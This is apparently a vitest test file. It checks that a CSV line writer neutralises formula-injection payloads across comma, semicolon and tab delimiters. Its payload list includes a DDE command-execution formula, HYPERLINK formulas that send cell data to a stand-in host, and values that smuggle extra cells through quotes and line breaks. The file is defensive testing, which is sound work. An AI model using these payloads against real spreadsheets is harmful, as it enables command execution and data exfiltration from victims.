import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { csvLine } from '#core/person/csv-line.ts'

const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1,"Click")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '"=1+1',
  'a",=1+1,"b',
  'a";=1+1;"b',
  'a\r\n=1+1',
  'Ada;=HYPERLINK("http://evil.example","Click")',
  'a\r\n=1+1\r\nb',
  'a\n"=1+1',
  'a\t@SUM(1,2)',
  'VIP; =1+1',
  'VIP; "=1+1',
  'VIP;\u200b＝1+1;-2+3',
]

/** What a spreadsheet computes, whatever it doesn't show before it. */
const isComputed = (cell: string) => /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell)

/** The cells of a text as a spreadsheet splits it by that sign: quotes are quotes where a cell begins. */
const splitBy = (delimiter: string, text: string): string[] => {
  const cells: string[] = []
  let rest = text
  for (;;) {
    const quoted = /^"((?:[^"]|"")*)(?:"|$)/.exec(rest)
    const plain = rest.slice(quoted?.[0].length ?? 0)
    const end = plain.search(new RegExp(`[${delimiter}\\r\\n]`))
    const unquoted = end === -1 ? plain : plain.slice(0, end)
    cells.push((quoted?.[1] ?? '').replaceAll('""', '"') + unquoted)
    if (end === -1) return cells
    rest = plain.slice(end + 1)
  }
}

describe('a cell of a CSV', () => {
  it.each(PAYLOADS)('is inert with %j in it, alone and among others', (payload) => {
    const line = csvLine(['Ada', payload, 'London'])
    const [cells = [], ...others] = parse(line, { record_delimiter: '\r\n' })
    expect(others).toEqual([])
    expect(cells).toHaveLength(3)
    expect(cells.filter(isComputed)).toEqual([])
    const [, cell = ''] = cells
    expect(cell.startsWith("'")).toBe(isComputed(payload) || /^[\t\r\n]/.test(payload))
    expect(cell.replaceAll("'", '')).toBe(payload.replaceAll("'", ''))
  })

  describe.each([',', ';', '\t'])('in a spreadsheet that splits by %j', (delimiter) => {
    it.each(PAYLOADS)('is inert with %j in it', (payload) => {
      const file = csvLine(['Ada', payload, 'London']) + csvLine([payload, payload])
      expect(splitBy(delimiter, file).filter(isComputed)).toEqual([])
    })
  })

  it('is as it was where nothing computes it', () => {
    const cells = [
      'Ada "the Countess"',
      '山田 太郎',
      '1-2',
      'a=b',
      '',
      'two\nlines',
      'VIP; Fair',
      'a;b=c',
    ]
    expect(parse(csvLine(cells), { record_delimiter: '\r\n' })).toEqual([cells])
  })
})
